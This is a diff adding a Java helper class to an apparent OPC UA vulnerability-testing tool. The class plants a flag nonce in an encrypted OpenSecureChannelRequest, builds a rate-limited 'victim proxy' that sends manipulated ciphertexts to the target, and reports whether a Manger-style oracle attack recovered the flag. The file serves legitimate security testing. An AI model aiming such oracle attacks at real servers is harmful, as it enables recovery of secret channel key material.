@@ -0,0 +1,154 @@
+package vulntest;
+
+import attacks.manger.oracle.Oracle;
+import attacks.manger.oracle.QueryScheduler;
+import attacks.manger.oracle.RateController;
+import attacks.manger.oracle.VictimProxy;
+import opcua.context.Endpoint;
+import opcua.context.LocalKeyPair;
+import opcua.context.StaticConfig;
+import opcua.encoding.DataTypeConverter;
+import opcua.encoding.EncodingException;
+import opcua.message.OpenSecureChannelRequest;
+import opcua.model.type.SecurityTokenRequestType;
+import opcua.util.MessageUtility;
+import reporting.entry.Entry;
+import reporting.entry.Group;
+import reporting.entry.ValueEntry;
+import transport.SecureChannelUtil;
+import transport.nio.NioEventLoop;
+import transport.tcp.ConnectionPool;
+
+import java.io.IOException;
+import java.util.Arrays;
+
+/**
+ * Helper functions for the proof-of-concept attacks of the vulnerability tests
+ */
+public class ProofOfConceptUtility {
+
+    /**
+     * A single attempt of a proof-of-concept attack
+     */
+    public interface Attempt {
+        /**
+         * Performs the attack
+         * @param attempt Number of the attempt, starting at 1
+         * @param report Entry the results are reported to
+         * @return Whether the flag was recovered
+         */
+        boolean perform(int attempt, Entry report);
+    }
+
+    /**
+     * An encrypted OpenSecureChannelRequest whose random client nonce is the flag to recover
+     */
+    public static class Flag {
+        private final byte[] clientNonce;
+        private final byte[] ciphertext;
+
+        private Flag(byte[] clientNonce, byte[] ciphertext) {
+            this.clientNonce = clientNonce;
+            this.ciphertext = ciphertext;
+        }
+
+        public byte[] getClientNonce() {
+            return clientNonce;
+        }
+
+        public byte[] getCiphertext() {
+            return ciphertext;
+        }
+    }
+
+    /**
+     * Performs attempts of a proof-of-concept attack until one succeeds or the number of attempts is reached
+     * @param numberOfAttempts Maximum number of attempts
+     * @param attempt The attack
+     * @return The report of the last attempt
+     */
+    public static Group attack(int numberOfAttempts, Attempt attempt) {
+        Group attackReport;
+        boolean successful;
+        int attempts = 0;
+        do {
+            attempts++;
+            attackReport = new Group("Proof-of-Concept Attack (Attempt " + attempts + ")");
+            successful = attempt.perform(attempts, attackReport);
+        } while (!successful && attempts < numberOfAttempts);
+        return attackReport;
+    }
+
+    /**
+     * Creates a signed and encrypted OpenSecureChannelRequest with a random client nonce as flag
+     * @param endpoint Target endpoint
+     * @param localKeyPair Local certificate
+     * @return The flag
+     * @throws EncodingException
+     */
+    public static Flag createFlag(Endpoint endpoint, LocalKeyPair localKeyPair) throws EncodingException {
+        byte[] clientNonce = SecureChannelUtil.generateRandomNonce(endpoint.getSecurityPolicy());
+        OpenSecureChannelRequest opnRequest = new OpenSecureChannelRequest(
+                StaticConfig.PROTOCOL_VERSION,
+                SecurityTokenRequestType.ISSUE,
+                endpoint.getMessageSecurityMode(),
+                clientNonce,
+                StaticConfig.REQUESTED_LIFETIME
+        );
+        return new Flag(clientNonce, MessageUtility.getSignedEncrypted(opnRequest, endpoint, localKeyPair));
+    }
+
+    /**
+     * Creates the victim proxy of an attack. Queries use the connection pool and are paced by the rate controller of
+     * the endpoint, unless no pool is given.
+     * @param endpoint Target endpoint
+     * @param flag The flag whose ciphertext is manipulated
+     * @param connectionPool Connection pool, or null to connect for every query
+     * @param eventLoop Event loop that performs the asynchronous queries, or null to perform them on threads
+     * @return The victim proxy
+     * @throws IOException If the ciphertext of the flag cannot be parsed
+     */
+    public static VictimProxy createVictimProxy(Endpoint endpoint, Flag flag, ConnectionPool connectionPool, NioEventLoop eventLoop) throws IOException {
+        VictimProxy victimProxy = new VictimProxy(endpoint, flag.getCiphertext());
+        victimProxy.setConnectionPool(connectionPool);
+        victimProxy.setEventLoop(eventLoop);
+        if(connectionPool != null) {
+            victimProxy.setRateController(RateController.forEndpoint(endpoint));
+        }
+        victimProxy.setQueryScheduler(QueryScheduler.forEndpoint(endpoint), QueryScheduler.Priority.ATTACK);
+        return victimProxy;
+    }
+
+    /**
+     * Reports whether the flag was recovered
+     * @param flag The flag
+     * @param recoveredNonce The recovered client nonce, or null if the attack failed
+     * @param queryCount Number of oracle queries of the attack
+     * @param report Entry the results are reported to
+     * @return Whether the flag was recovered
+     */
+    public static boolean reportResult(Flag flag, byte[] recoveredNonce, long queryCount, Entry report) {
+        boolean successful = recoveredNonce != null && Arrays.equals(flag.getClientNonce(), recoveredNonce);
+        report.addSubEntry(new ValueEntry<>("Success", successful));
+        report.addSubEntry(new ValueEntry<>("Flag Nonce", DataTypeConverter.bytesToHexString(flag.getClientNonce())));
+        report.addSubEntry(new ValueEntry<>("Recovered Nonce", DataTypeConverter.bytesToHexString(recoveredNonce)));
+        report.addSubEntry(new ValueEntry<>("Oracle Queries", queryCount));
+        return successful;
+    }
+
+    /**
+     * Reports the metrics of the oracle and the state of the rate controller and query scheduler of its victim proxy
+     * @param oracle The oracle
+     * @param victimProxy The victim proxy
+     * @param report Entry the results are reported to
+     */
+    public static void reportTraffic(Oracle oracle, VictimProxy victimProxy, Entry report) {
+        report.addSubEntry(oracle.getMetrics().toReport());
+        if(victimProxy.getRateController() != null) {
+            report.addSubEntry(victimProxy.getRateController().toReport());
+        }
+        if(victimProxy.getQueryScheduler() != null) {
+            report.addSubEntry(victimProxy.getQueryScheduler().toReport());
+        }
+    }
+}